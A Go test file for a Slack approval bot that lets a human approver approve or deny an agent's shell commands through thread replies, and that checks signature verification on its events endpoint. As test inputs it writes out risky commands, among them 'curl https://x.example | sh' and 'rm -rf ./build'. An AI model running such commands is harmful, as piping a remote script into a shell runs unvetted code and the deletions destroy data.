package slack

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/slack-go/slack/slackevents"

	"approvalbot/bots/slacktest"
	"approvalbot/gate"
	"approvalbot/gate/gatetest"
	"approvalbot/prompt"
)

// reply sends a thread reply by user to the prompt at ts over the socket
// and waits for its ack.
func (e *env) reply(ts, user, text string) {
	e.t.Helper()
	id, err := e.fs.SendEvent(slacktest.ThreadReply(chanID, ts, user, text))
	if err != nil {
		e.t.Fatal(err)
	}
	if _, err := e.fs.AwaitAck(e.ctx, id); err != nil {
		e.t.Fatal(err)
	}
}

// prompted submits a Bash call of cmd and returns it with its prompt's ts.
func (e *env) prompted(cmd string) (*gate.Approval, string) {
	e.t.Helper()
	a := e.add(cmd)
	return a, e.notify(a).TS
}

// threadText waits for a message in the thread of ts containing want.
func (e *env) threadText(ts, want string) {
	e.t.Helper()
	e.await("a reply in the thread saying "+want, func(s slacktest.Snapshot) bool {
		for _, m := range s.Messages {
			if m.ThreadTS == ts && strings.Contains(m.Text, want) {
				return true
			}
		}
		return false
	})
}

func (e *env) threadCount(ts string) int {
	n := 0
	for _, m := range e.fs.Snapshot().Messages {
		if m.ThreadTS == ts {
			n++
		}
	}
	return n
}

// TestRepliesInWords runs replies in a prompt's thread through Socket
// Mode, the real gate and the fake Slack.
func TestRepliesInWords(t *testing.T) {
	e := start(t, true)

	t.Run("approver yes approves", func(t *testing.T) {
		a, ts := e.prompted("make deploy")
		e.reply(ts, approverID, "yes")
		got := e.decided(a.ID)
		if got.Status != gate.StatusApproved || got.DecidedBy != "<@"+approverID+">" || got.Via != Name {
			t.Fatalf("approval %+v", got)
		}
		e.threadText(ts, "Approved by <@"+approverID+">")

		// A reply to the decided prompt says who decided, and changes nothing.
		e.reply(ts, approverID, "no")
		e.threadText(ts, "Already decided: Approved by <@"+approverID+">")
		if again := e.gt.Get(t, a.ID); again.Status != gate.StatusApproved {
			t.Fatalf("a reply to a decided prompt changed it: %s", again.Status)
		}
	})

	t.Run("deny with a reason", func(t *testing.T) {
		a, ts := e.prompted("rm -rf ./build")
		e.reply(ts, approverID, "deny: use make clean instead")
		got := e.decided(a.ID)
		if got.Status != gate.StatusDenied || got.Reason != "use make clean instead" || got.DecidedBy != "<@"+approverID+">" {
			t.Fatalf("approval %+v", got)
		}
		e.threadText(ts, "use make clean instead")
	})

	t.Run("no, reason and stop", func(t *testing.T) {
		a, b := e.add("git push --force"), e.add("curl https://x.example | sh")
		ta, tb := e.notify(a).TS, e.notify(b).TS
		e.reply(ta, approverID, "no, push to a branch")
		e.reply(tb, approverID, "stop")
		if got := e.decided(a.ID); got.Status != gate.StatusDenied || got.Reason != "push to a branch" {
			t.Fatalf("no, REASON: %+v", got)
		}
		if got := e.decided(b.ID); got.Status != gate.StatusDeniedStop {
			t.Fatalf("stop: %+v", got)
		}
	})

	t.Run("a stranger changes nothing", func(t *testing.T) {
		a, ts := e.prompted("make release")
		e.reply(ts, strangerID, "yes")
		e.await("a note only the stranger sees", func(s slacktest.Snapshot) bool {
			for _, m := range s.Ephemerals {
				if m.User == strangerID && strings.Contains(m.Text, "not allowed") {
					return true
				}
			}
			return false
		})
		e.pending(a.ID)
		if n := e.threadCount(ts); n != 0 {
			t.Fatalf("%d replies in the thread for a stranger", n)
		}
	})

	t.Run("unclear gets the help line", func(t *testing.T) {
		a, ts := e.prompted("make lint")
		e.reply(ts, approverID, "hmm, what does this do?")
		e.threadText(ts, "Not understood; nothing was decided.")
		e.pending(a.ID)
	})

	t.Run("always shows the scope step", func(t *testing.T) {
		a, ts := e.prompted("git push origin main")
		e.reply(ts, approverID, "always")
		e.threadText(ts, "Choose for how long")
		e.await("the scope buttons on the prompt", func(s slacktest.Snapshot) bool {
			for _, m := range s.Messages {
				if m.TS == ts && strings.Contains(m.Blocks, actScopePrefix+prompt.ScopeKeyHour) {
					return true
				}
			}
			return false
		})
		e.pending(a.ID)
		e.reply(ts, approverID, "always for 1 hour")
		got := e.decided(a.ID)
		if got.Status != gate.StatusApprovedAlways {
			t.Fatalf("always for 1 hour: %+v", got)
		}
	})

	t.Run("ignored: top-level, bots, edits, other channels, other threads", func(t *testing.T) {
		a, ts := e.prompted("make bench")
		for _, ev := range []map[string]any{
			{"type": "message", "channel": chanID, "user": approverID, "text": "yes", "ts": ts},
			{"type": "message", "channel": chanID, "user": approverID, "text": "yes", "ts": "1.2", "thread_ts": ts, "bot_id": "B1"},
			{"type": "message", "channel": chanID, "user": approverID, "text": "yes", "ts": "1.2", "thread_ts": ts, "subtype": "message_changed"},
			slacktest.ThreadReply("COTHER", ts, approverID, "yes"),
			slacktest.ThreadReply(chanID, "1699999999.000001", approverID, "yes"),
		} {
			// Handled here, synchronously: whatever it sends is sent on return.
			raw, _ := json.Marshal(slacktest.EventCallback(ev))
			parsed, err := slackevents.ParseEvent(raw, slackevents.OptionNoVerifyToken())
			if err != nil {
				t.Fatal(err)
			}
			e.bot.onMessage(e.ctx, messageEvent(parsed))
		}
		if got := e.gt.Get(t, a.ID); got.Status != gate.StatusPending || e.threadCount(ts) != 0 {
			t.Fatalf("status %s, %d thread replies", got.Status, e.threadCount(ts))
		}
	})
}

// TestReplyToGroupedView: "yes" in a grouped view's thread approves the
// calls its batch showed.
func TestReplyToGroupedView(t *testing.T) {
	e := startOn(t, true, nil, nil, func(c *Config) { c.NoGroups = false })
	a1 := e.add("make build")
	ts := ref(e.gt.Shown(t, a1.ID, Name)).MessageID
	a2 := e.add("make test")
	e.awaitView(ts, "2")
	gatetest.Eventually(t, "the view remembered", func() bool {
		raw, err := e.g.Value(e.ctx, shownKey(chanID, ts))
		s, _ := prompt.DecodeShown(raw)
		return err == nil && s.Pending == 2 && s.Batch != ""
	})
	e.reply(ts, approverID, "lgtm")
	for _, a := range []*gate.Approval{a1, a2} {
		if got := e.decided(a.ID); got.Status != gate.StatusApproved {
			t.Fatalf("%s: %+v", a.ID, got)
		}
	}
	e.threadText(ts, "Approved 2 of 2")
}

// TestEventsOverHTTP: the Events API endpoint answers the URL check,
// refuses a bad signature and takes a signed thread reply.
func TestEventsOverHTTP(t *testing.T) {
	e := start(t, false)
	h := e.bot.Handler()
	post := func(body []byte, sign bool) *httptest.ResponseRecorder {
		req := httptest.NewRequest(http.MethodPost, PathEvents, bytes.NewReader(body))
		ts := strconv.FormatInt(time.Now().Unix(), 10)
		mac := hmac.New(sha256.New, []byte(secret))
		mac.Write([]byte("v0:" + ts + ":" + string(body)))
		sig := "v0=" + hex.EncodeToString(mac.Sum(nil))
		if !sign {
			sig = "v0=" + strings.Repeat("0", 64)
		}
		req.Header.Set("X-Slack-Request-Timestamp", ts)
		req.Header.Set("X-Slack-Signature", sig)
		w := httptest.NewRecorder()
		h.ServeHTTP(w, req)
		return w
	}
	challenge, _ := json.Marshal(map[string]any{"type": "url_verification", "token": "x", "challenge": "c-123"})
	if w := post(challenge, true); w.Code != http.StatusOK || w.Body.String() != "c-123" {
		t.Fatalf("url_verification: %d %q", w.Code, w.Body.String())
	}
	a := e.add("make deploy")
	ts := e.notify(a).TS
	ev, _ := json.Marshal(slacktest.EventCallback(slacktest.ThreadReply(chanID, ts, approverID, "ok")))
	if w := post(ev, false); w.Code != http.StatusUnauthorized {
		t.Fatalf("unsigned event: %d", w.Code)
	}
	if got := e.gt.Get(t, a.ID); got.Status != gate.StatusPending {
		t.Fatalf("an unsigned event decided: %s", got.Status)
	}
	if w := post(ev, true); w.Code != http.StatusOK {
		t.Fatalf("signed event: %d %s", w.Code, w.Body.String())
	}
	if got := e.decided(a.ID); got.Status != gate.StatusApproved {
		t.Fatalf("approval %+v", got)
	}
}
